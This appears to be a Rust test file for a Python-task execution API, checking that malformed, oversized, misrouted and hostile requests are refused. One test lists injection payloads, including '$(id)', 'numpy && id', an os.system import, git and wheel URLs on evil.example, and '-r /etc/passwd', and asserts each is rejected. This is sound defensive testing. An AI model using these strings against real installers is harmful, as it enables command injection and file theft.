//! Invalid requests, and their responses.

use super::place::{self, Place};

async fn refused(place: &Place, body: impl Into<Vec<u8>>) -> (u16, String, Option<String>) {
    let answer = place.submit(body).await;
    let (code, pointer) = answer.problem();
    (answer.status, code, pointer)
}

fn reported(status: u16, code: &str, pointer: Option<&str>) -> (u16, String, Option<String>) {
    (status, code.to_owned(), pointer.map(str::to_owned))
}

#[tokio::test]
async fn a_body_that_is_not_a_task_is_refused() {
    let place = place::start().await;
    let malformed = place.submit("{\n  \"pythonCode\": print(1)\n}").await;
    assert_eq!(malformed.problem(), ("invalid_json".to_owned(), None));
    assert_eq!(
        (malformed.json()["line"].as_u64(), malformed.json()["column"].as_u64()),
        (Some(2), Some(17))
    );
    let cases: [(&[u8], _); 8] = [
        (b"", reported(400, "invalid_json", None)),
        (b"{\"pythonCode\": \"\xff\"}", reported(400, "invalid_utf8", None)),
        (b"{\"pythonCode\": \"\\ud800\"}", reported(400, "invalid_json", None)),
        (
            b"{\"pythonCode\": 1}",
            reported(422, "invalid_task", Some("/pythonCode")),
        ),
        (
            b"{\"pythonCode\": \" \"}",
            reported(422, "invalid_task", Some("/pythonCode")),
        ),
        (
            b"{\"pythonCode\": \"1\", \"usecache\": 1}",
            reported(422, "invalid_task", Some("/usecache")),
        ),
        (
            b"{\"dependencies\": \"numpy\"}",
            reported(422, "invalid_task", Some("/pythonCode")),
        ),
        (b"[1]", reported(422, "invalid_task", Some(""))),
    ];
    for (body, expected) in cases {
        assert_eq!(
            refused(&place, body).await,
            expected,
            "{}",
            String::from_utf8_lossy(body)
        );
    }
    let unknown = place.submit("{\"pythonCode\": \"1\", \"usecache\": 1}").await.json();
    assert!(unknown["detail"].as_str().unwrap().contains("usecache"), "{unknown}");
    assert_eq!(
        place.engine.metrics().tasks.iter().map(|(_, count)| count).sum::<u64>(),
        0
    );
    place.end().await;
}

#[tokio::test]
async fn hostile_requirements_are_refused_by_line() {
    let place = place::start().await;
    let hostile = [
        "--index-url=file:///srv/simple",
        "-r /etc/passwd",
        "-e git+https://evil.example/x",
        "numpy @ file:///etc/passwd",
        "git+https://evil.example/x.git",
        "https://evil.example/x.whl",
        "../../evil",
        "numpy; __import__('os').system('id')",
        "numpy --hash=sha256:00",
        "numpy\u{0}",
        "$(id)",
        "`id`",
        "numpy && id",
        "${HOME}",
    ];
    for line in hostile {
        let body = serde_json::json!({"pythonCode": "1", "requirementsFile": format!("pandas\n{line}\n")});
        let answer = place.submit(body.to_string()).await;
        assert_eq!(
            (answer.status, answer.problem().0.as_str()),
            (422, "invalid_task"),
            "{line}"
        );
        assert_eq!(answer.json()["pointer"], "/requirementsFile", "{line}");
        assert_eq!(answer.json()["line"], 2, "{line}");
        let body = serde_json::json!({"pythonCode": "1", "dependencies": line});
        assert_eq!(place.submit(body.to_string()).await.status, 422, "{line}");
    }
    for line in ["gcc;id", "--option", "../evil", "/bin/sh", "gcc$(id)", "a b"] {
        let body = serde_json::json!({"pythonCode": "1", "systemDependencies": line});
        let expected = reported(422, "invalid_task", Some("/systemDependencies"));
        assert_eq!(refused(&place, body.to_string()).await, expected, "{line}");
    }
    place.end().await;
}

#[tokio::test]
async fn a_body_that_is_too_large_or_of_another_type_is_refused() {
    let place = place::start().await;
    let huge = format!("{{\"pythonCode\": \"{}\"}}", "#".repeat(10 << 20));
    assert_eq!(refused(&place, huge).await, reported(413, "too_large", None));
    let long = format!("{{\"pythonCode\": \"{}\"}}", "#".repeat((1 << 20) + 1));
    assert_eq!(
        refused(&place, long).await,
        reported(422, "invalid_task", Some("/pythonCode"))
    );
    let just = format!("{{\"pythonCode\": \"{}\"}}", "#".repeat(1 << 20));
    assert_eq!(place.submit(just).await.status, 200);
    for headers in [
        &[("content-type", "text/plain")][..],
        &[],
        &[("content-type", "application/x-www-form-urlencoded")],
    ] {
        let answer = place.send("POST", "/api/v1/tasks/submit", headers, "{}").await;
        assert_eq!(
            (answer.status, answer.problem().0.as_str()),
            (415, "unsupported_media_type")
        );
    }
    let json = [("content-type", "Application/JSON; charset=utf-8")];
    let answer = place
        .send("POST", "/api/v1/tasks/submit", &json, "{\"pythonCode\": \"1\"}")
        .await;
    assert_eq!(answer.status, 200);
    place.end().await;
}

#[tokio::test]
async fn unknown_paths_and_tasks_are_not_found() {
    let place = place::start().await;
    for path in [
        "/api",
        "/api/v1/task",
        "/api/v1/tasks/",
        "/api/v1/tasks/task-a/logs/x",
        "//",
        "/api/v1/tasks/%ff/x/y",
    ] {
        let answer = place.get(path).await;
        assert_eq!(
            (answer.status, answer.problem().0.as_str()),
            (404, "unknown_route"),
            "{path}"
        );
    }
    for id in [
        "task-unknown",
        "nothing",
        "task-ABC",
        "%2e%2e",
        "%ff",
        &"a".repeat(5000),
    ] {
        for (method, end) in [
            ("GET", ""),
            ("GET", "/logs"),
            ("GET", "/logs?follow=true"),
            ("POST", "/run"),
            ("POST", "/cancel"),
            ("DELETE", ""),
        ] {
            let answer = place.send(method, &format!("/api/v1/tasks/{id}{end}"), &[], "").await;
            assert_eq!(
                (answer.status, answer.problem().0.as_str()),
                (404, "not_found"),
                "{method} {id}{end}"
            );
        }
    }
    place.end().await;
}

#[tokio::test]
async fn unknown_methods_and_parameters_are_refused() {
    let place = place::start().await;
    for (method, path, allow) in [
        ("GET", "/api/v1/tasks/submit", ""),
        ("DELETE", "/api/v1/tasks", "GET,HEAD"),
        ("PUT", "/api/v1/tasks/task-a", "GET,HEAD,DELETE"),
        ("PATCH", "/api/v1/tasks/task-a/run", "POST"),
        ("BREW", "/healthz", "GET,HEAD"),
        ("OPTIONS", "/metrics", "GET,HEAD"),
    ] {
        let answer = place.send(method, path, &[], "").await;
        if path.ends_with("submit") {
            // `submit` is not a task's id, so reading it finds none.
            assert_eq!(
                (answer.status, answer.problem().0.as_str()),
                (405, "method_not_allowed")
            );
            continue;
        }
        assert_eq!(
            (answer.status, answer.problem().0.as_str()),
            (405, "method_not_allowed"),
            "{method} {path}"
        );
        assert_eq!(answer.header("allow"), allow, "{method} {path}");
    }
    for query in [
        "limit=0",
        "limit=201",
        "limit=x",
        "state=asleep",
        "cursor=zz",
        "colour=red",
        "end=well",
    ] {
        let answer = place.get(&format!("/api/v1/tasks?{query}")).await;
        assert_eq!(
            (answer.status, answer.problem().0.as_str()),
            (400, "invalid_parameter"),
            "{query}"
        );
        let name = query.split('=').next().unwrap();
        assert_eq!(answer.json()["parameter"], name);
    }
    place.end().await;
}

#[tokio::test]
async fn a_head_is_answered_as_a_get_without_its_body() {
    let place = place::start().await;
    let id = place.saved("print x").await;
    for path in [format!("/api/v1/tasks/{id}"), "/healthz".to_owned(), "/".to_owned()] {
        let answer = place.send("HEAD", &path, &[], "").await;
        assert_eq!((answer.status, answer.body.len()), (200, 0), "{path}");
    }
    place.end().await;
}
